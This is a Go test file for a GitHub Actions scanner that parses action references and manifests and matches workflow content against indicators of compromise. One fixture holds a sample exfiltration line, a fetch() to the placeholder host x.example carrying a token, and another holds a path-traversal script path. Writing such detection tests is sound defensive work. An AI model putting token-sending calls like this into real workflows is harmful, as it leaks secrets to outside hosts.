@@ -0,0 +1,226 @@
+package workflow_test
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/chainguard-dev/ghscan/pkg/ioc"
+	"github.com/chainguard-dev/ghscan/pkg/workflow"
+	"github.com/google/go-github/v86/github"
+)
+
+func TestParseActionRef(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		uses   string
+		want   workflow.ActionRef
+		wantOK bool
+	}{
+		{uses: "actions/checkout@v4", want: workflow.ActionRef{Owner: "actions", Repo: "checkout", Ref: "v4"}, wantOK: true},
+		{uses: "github/codeql-action/init@abc123", want: workflow.ActionRef{Owner: "github", Repo: "codeql-action", Path: "init", Ref: "abc123"}, wantOK: true},
+		{uses: "  o/r/a/b@main ", want: workflow.ActionRef{Owner: "o", Repo: "r", Path: "a/b", Ref: "main"}, wantOK: true},
+		{uses: "./.github/actions/local"},
+		{uses: "docker://alpine:3"},
+		{uses: "actions/checkout"},
+		{uses: "o/r/.github/workflows/reuse.yml@v1"},
+		{uses: "o/r/../x@v1"},
+		{uses: "o/r/a//b@v1"},
+		{uses: "o@v1"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.uses, func(t *testing.T) {
+			t.Parallel()
+			got, ok := workflow.ParseActionRef(tt.uses)
+			if ok != tt.wantOK || got != tt.want {
+				t.Fatalf("ParseActionRef(%q)=(%+v, %v), want (%+v, %v)", tt.uses, got, ok, tt.want, tt.wantOK)
+			}
+		})
+	}
+}
+
+func TestActionRef_String(t *testing.T) {
+	t.Parallel()
+	a := workflow.ActionRef{Owner: "o", Repo: "r", Path: "sub", Ref: "v1"}
+	if got := a.String(); got != "o/r/sub@v1" {
+		t.Fatalf("String()=%q, want o/r/sub@v1", got)
+	}
+	a.Path = ""
+	if got := a.String(); got != "o/r@v1" {
+		t.Fatalf("String()=%q, want o/r@v1", got)
+	}
+}
+
+// TestParseActionManifest asserts entrypoints, a local Dockerfile, and
+// action_path scripts are resolved relative to the action's directory,
+// traversal out of the repository is dropped, and composite uses: are
+// collected.
+func TestParseActionManifest(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		name      string
+		manifest  string
+		dir       string
+		wantUsing string
+		wantFiles []string
+		wantUses  []string
+	}{{
+		name:      "node",
+		manifest:  "runs:\n  using: node20\n  pre: dist/setup.js\n  main: dist/index.js\n  post: dist/index.js\n",
+		wantUsing: "node20",
+		wantFiles: []string{"dist/setup.js", "dist/index.js"},
+	}, {
+		name:      "docker",
+		manifest:  "runs:\n  using: docker\n  image: Dockerfile\n",
+		dir:       "sub",
+		wantUsing: "docker",
+		wantFiles: []string{"sub/Dockerfile"},
+	}, {
+		name:      "docker image",
+		manifest:  "runs:\n  using: docker\n  image: docker://alpine:3\n",
+		wantUsing: "docker",
+	}, {
+		name: "composite",
+		manifest: "runs:\n  using: composite\n  steps:\n" +
+			"    - uses: actions/setup-node@v4\n" +
+			"    - run: bash ${{ github.action_path }}/scripts/run.sh\n      shell: bash\n" +
+			"    - run: $GITHUB_ACTION_PATH/../../escape.sh\n      shell: bash\n" +
+			"    - uses: ./local\n",
+		dir:       "sub",
+		wantUsing: "composite",
+		wantFiles: []string{"sub/scripts/run.sh"},
+		wantUses:  []string{"actions/setup-node@v4", "./local"},
+	}, {
+		name:     "no runs",
+		manifest: "name: x\n",
+	}}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			m, err := workflow.ParseActionManifest([]byte(tt.manifest), tt.dir)
+			if err != nil {
+				t.Fatalf("ParseActionManifest: %v", err)
+			}
+			if m.Using != tt.wantUsing || !slices.Equal(m.Files, tt.wantFiles) || !slices.Equal(m.Uses, tt.wantUses) {
+				t.Fatalf("got %+v, want using=%q files=%v uses=%v", m, tt.wantUsing, tt.wantFiles, tt.wantUses)
+			}
+		})
+	}
+}
+
+func TestMatchActionContent(t *testing.T) {
+	t.Parallel()
+
+	custom, err := ioc.NewIOC(&ioc.Config{Name: "test-only", Content: []string{"DROP_THIS_TOKEN"}})
+	if err != nil {
+		t.Fatalf("build IOC: %v", err)
+	}
+	corpus := &ioc.Corpus{Version: 1, IOCs: []ioc.CorpusEntry{{Action: "evil/action", Refs: []string{"v1"}}}}
+
+	content := "runs:\n  steps:\n    - uses: evil/action@v1\n    - run: echo ok\n" +
+		"fetch('https://x.example/' + 'DROP_THIS_TOKEN' + '" + strings.Repeat("a", 1000) + "')\n"
+	got := workflow.MatchActionContent([]byte(content), custom, corpus)
+	if len(got) != 2 {
+		t.Fatalf("matches=%+v, want 2", got)
+	}
+	if got[0].IOCName != "evil/action" || got[0].Line != "- uses: evil/action@v1" {
+		t.Errorf("first match=%+v", got[0])
+	}
+	if got[1].IOCName != "test-only" || len(got[1].Line) > 520 || !strings.HasSuffix(got[1].Line, "…") {
+		t.Errorf("second match not attributed or truncated: %q (%d bytes)", got[1].IOCName, len(got[1].Line))
+	}
+	if got := workflow.MatchActionContent([]byte(content), nil, nil); len(got) != 0 {
+		t.Errorf("nil matchers matched %+v", got)
+	}
+}
+
+// TestFetchActionManifest asserts the pinned ref is requested, a
+// missing action.yml falls back to action.yaml, and a missing manifest
+// is reported as ErrActionNotFound.
+func TestFetchActionManifest(t *testing.T) {
+	t.Parallel()
+
+	body := "runs:\n  using: node20\n  main: index.js\n"
+	mux := http.NewServeMux()
+	mux.HandleFunc("/repos/o/r/contents/sub/action.yaml", func(w http.ResponseWriter, r *http.Request) {
+		if got := r.URL.Query().Get("ref"); got != "v1" {
+			t.Errorf("ref=%q, want v1", got)
+		}
+		_ = json.NewEncoder(w).Encode(github.RepositoryContent{
+			Type:     new("file"),
+			Encoding: new("base64"),
+			Content:  new(base64.StdEncoding.EncodeToString([]byte(body))),
+			Size:     new(len(body)),
+		})
+	})
+	mux.HandleFunc("/", http.NotFound)
+	ts := httptest.NewServer(mux)
+	t.Cleanup(ts.Close)
+	gh, _ := newTestClients(t, ts)
+
+	p, got, err := workflow.FetchActionManifest(t.Context(), gh, workflow.ActionRef{Owner: "o", Repo: "r", Path: "sub", Ref: "v1"})
+	if err != nil {
+		t.Fatalf("FetchActionManifest: %v", err)
+	}
+	if p != "sub/action.yaml" || string(got) != body {
+		t.Fatalf("got (%q, %q), want (sub/action.yaml, %q)", p, got, body)
+	}
+
+	_, _, err = workflow.FetchActionManifest(t.Context(), gh, workflow.ActionRef{Owner: "o", Repo: "r", Ref: "v1"})
+	if !errors.Is(err, workflow.ErrActionNotFound) {
+		t.Fatalf("err=%v, want ErrActionNotFound", err)
+	}
+}
+
+// TestResolveActionTag asserts a lightweight tag resolves to its
+// commit, an annotated tag is followed to the commit it tags, and a
+// missing tag is an error.
+func TestResolveActionTag(t *testing.T) {
+	t.Parallel()
+
+	const commit = "0e58ed8671d6b60d0890c21b07f8835ace038e67"
+	mux := http.NewServeMux()
+	mux.HandleFunc("/repos/o/r/git/ref/tags/v1", func(w http.ResponseWriter, _ *http.Request) {
+		_ = json.NewEncoder(w).Encode(github.Reference{
+			Ref:    new("refs/tags/v1"),
+			Object: &github.GitObject{Type: new("commit"), SHA: new(commit)},
+		})
+	})
+	mux.HandleFunc("/repos/o/r/git/ref/tags/v2", func(w http.ResponseWriter, _ *http.Request) {
+		_ = json.NewEncoder(w).Encode(github.Reference{
+			Ref:    new("refs/tags/v2"),
+			Object: &github.GitObject{Type: new("tag"), SHA: new("beef")},
+		})
+	})
+	mux.HandleFunc("/repos/o/r/git/tags/beef", func(w http.ResponseWriter, _ *http.Request) {
+		_ = json.NewEncoder(w).Encode(github.Tag{
+			Tag:    new("v2"),
+			Object: &github.GitObject{Type: new("commit"), SHA: new(commit)},
+		})
+	})
+	mux.HandleFunc("/", http.NotFound)
+	ts := httptest.NewServer(mux)
+	t.Cleanup(ts.Close)
+	gh, _ := newTestClients(t, ts)
+
+	for _, tag := range []string{"v1", "v2"} {
+		got, err := workflow.ResolveActionTag(t.Context(), gh, workflow.ActionRef{Owner: "o", Repo: "r", Ref: tag})
+		if err != nil {
+			t.Fatalf("ResolveActionTag(%s): %v", tag, err)
+		}
+		if got != commit {
+			t.Fatalf("ResolveActionTag(%s)=%q, want %q", tag, got, commit)
+		}
+	}
+
+	if _, err := workflow.ResolveActionTag(t.Context(), gh, workflow.ActionRef{Owner: "o", Repo: "r", Ref: "v3"}); err == nil {
+		t.Fatal("ResolveActionTag of a missing tag succeeded")
+	}
+}